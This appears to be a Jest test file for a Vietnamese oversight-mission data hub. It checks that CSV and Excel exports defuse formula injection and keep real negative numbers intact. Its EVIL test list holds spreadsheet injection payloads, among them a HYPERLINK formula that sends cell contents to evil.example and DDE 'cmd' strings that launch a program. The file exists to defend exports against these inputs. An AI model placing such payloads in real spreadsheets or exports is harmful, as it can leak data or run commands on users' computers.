import { unzipSync } from 'fflate';
import { beforeAll, describe, expect, test } from '@jest/globals';
import { datasets } from '../../src/modules/imports/index.js';
import { query } from '../kit/databases.js';
import { hubForWriting } from '../kit/hub.js';
import { csvRows, sheetsOf } from '../server/download-answer.js';

const hub = hubForWriting();

/** Texts that Excel would run, or reach for something by; the last two are none of it. */
const EVIL = [
  '=HYPERLINK("http://evil.example/?x="&A1,"xem")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\n=1+1',
  '＝1+1',
  '-',
  'một;=1+1;hai',
  'ba, =1+1,bốn',
  'năm\n- 1+1',
  'sáu; -5,5; bảy',
  '-36,5',
  'Kiến nghị – bình thường',
];
const RUNS = /^(?:[\t\r]|\s*[=+\-@＝＋－＠])/u;
const NUMBER = /^-?\d+(?:[.,]\d+)?$/u;

beforeAll(async () => {
  const [mission] = await query(hub.databaseUrl, `select id from oversight_mission where code = '31.hdnd-CCHC-2016-2021-308'`);
  await query(
    hub.databaseUrl,
    `insert into recommendation (mission_id, from_id, ordinal, text, status, raised_on)
     select $1, (select min(id) from party), 1000 + at, text, 'OPEN', '2020-05-21' from unnest($2::text[]) with ordinality as t(text, at)`,
    [mission!['id'], EVIL],
  );
  await query(hub.databaseUrl, `update statement set value = -5.5 where id = (select id from statement where value = 106)`);
  await query(hub.databaseUrl, `update oversight_mission set team_name = $1`, [EVIL[0]]);
});

const bytesOf = async (path: string): Promise<Uint8Array> => new Uint8Array(await (await fetch(hub.url + path)).arrayBuffer());
const textOf = async (path: string): Promise<string> => new TextDecoder('utf-8', { ignoreBOM: true }).decode(await bytesOf(path));

/** Of every part of a workbook: no formula, nothing from outside, no macro. */
function expectNothingRuns(bytes: Uint8Array): void {
  const parts = unzipSync(bytes);
  for (const [name, part] of Object.entries(parts)) {
    expect(name).toMatch(/^(\[Content_Types\]|_rels\/|xl\/_rels\/workbook|xl\/(workbook|styles|worksheets\/sheet\d))/);
    expect(new TextDecoder().decode(part)).not.toMatch(/<f[ >/]|<definedName|<hyperlink|externalLink|TargetMode|ddeLink/);
  }
}

const RECOMMENDATIONS = '/q/OversightMissions.csv?subject=308&rows=oversightMissions.nodes.recommendations';

describe('F32 a text that begins like a formula', () => {
  test.each([',', ';'])('leaves in a CSV (%s) with an apostrophe before it, and nothing else of it changes', async (separator) => {
    const [header, ...lines] = csvRows(await textOf(`${RECOMMENDATIONS}&sep=${separator}`), separator);
    const at = header!.indexOf('oversightMissions.nodes.recommendations.text');
    const texts = lines.map((cells) => cells[at]!);
    expect(texts.slice(-EVIL.length).map((text) => text.replaceAll(/(^|[,;\t\r\n]\s*)'/gu, '$1'))).toEqual(EVIL);
    for (const cell of lines.flat()) if (!NUMBER.test(cell)) expect(cell).not.toMatch(RUNS);
    expect(texts.slice(-2)).toEqual(EVIL.slice(-2));
  });

  test('is no cell of its own either where Excel takes another sign for the separator', async () => {
    for (const [asked, taken] of [
      [',', ';'],
      [';', ','],
    ] as const) {
      const text = (await textOf(`${RECOMMENDATIONS}&sep=${asked}`)).slice(1);
      const cells = text.split(/[\r\n]+/u).flatMap((line) => line.split(taken).flatMap((part) => part.split('\t')));
      expect(cells.length).toBeGreaterThan(EVIL.length);
      for (const cell of cells) if (!NUMBER.test(cell.trim())) expect(cell).not.toMatch(RUNS);
    }
  });

  test('leaves in a workbook as the text that it is, and stays one when it is edited', async () => {
    const bytes = await bytesOf(RECOMMENDATIONS.replace('.csv', '.xlsx'));
    expectNothingRuns(bytes);
    const [header, ...lines] = Object.values(await sheetsOf(bytes))[0]!;
    const at = header!.indexOf('oversightMissions.nodes.recommendations.text');
    const texts = lines.map((cells) => cells[at]);
    // A line break of any kind is one in a cell.
    expect(texts.slice(-EVIL.length)).toEqual(EVIL.map((text) => text.replaceAll('\r', '\n')));
    const parts = unzipSync(bytes);
    const styles = new TextDecoder().decode(parts['xl/styles.xml']);
    const formats = /<cellXfs[^>]*>(.*)<\/cellXfs>/.exec(styles)![1]!.match(/<xf[^>]*?(?:\/>|>.*?<\/xf>)/g)!;
    const sheet = new TextDecoder().decode(parts['xl/worksheets/sheet1.xml']);
    const cells = [...sheet.matchAll(/<c r="[A-Z]+\d+" s="(\d+)" t="inlineStr"><is><t xml:space="preserve">([^<]*)</g)];
    const risky = cells.filter(([, , text]) => RUNS.test(text!) && !NUMBER.test(text!));
    expect(risky.length).toBeGreaterThanOrEqual(10);
    for (const [, style] of risky) expect(formats[Number(style)]).toContain('quotePrefix="1"');
  });

  test('does not hide a real negative number', async () => {
    const path = '/q/OversightMissions.csv?subject=308&rows=oversightMissions.nodes.statements';
    const numbers = async (): Promise<unknown[]> => {
      const [header, ...lines] = csvRows(await textOf(path));
      return lines.map((cells) => cells[header!.indexOf('oversightMissions.nodes.statements.value')]);
    };
    expect(await numbers()).toContain('-5.5');
    const [header, ...lines] = Object.values(await sheetsOf(await bytesOf(path.replace('.csv', '.xlsx'))))[0]!;
    expect(lines.map((cells) => cells[header!.indexOf('oversightMissions.nodes.statements.value')])).toContain(-5.5);
  });

  test('is not made of what somebody asks for: variables stand in the second sheet and in the name of the file', async () => {
    for (const format of ['csv', 'xlsx']) {
      const response = await fetch(`${hub.url}/q/UnitSearch.${format}?text=${encodeURIComponent('=cmd|"x"')}&on=2018-11-06`);
      expect(response.headers.get('content-disposition')).toBe(`attachment; filename="UnitSearch-cmd-x-2018-11-06.${format}"`);
      if (format === 'xlsx') {
        const bytes = new Uint8Array(await response.arrayBuffer());
        expectNothingRuns(bytes);
        expect(Object.values(await sheetsOf(bytes))[1]).toContainEqual(['Biến text', '=cmd|"x"']);
      }
    }
  });
});

test('F32 the templates hold no formula', async () => {
  for (const { name } of datasets) {
    for (const cell of csvRows(await textOf(`/templates/${name}.csv`)).flat()) expect(cell).not.toMatch(RUNS);
    const bytes = await bytesOf(`/templates/${name}.xlsx`);
    expectNothingRuns(bytes);
    for (const cell of Object.values(await sheetsOf(bytes)).flat(2)) expect(cell).not.toMatch(RUNS);
  }
});
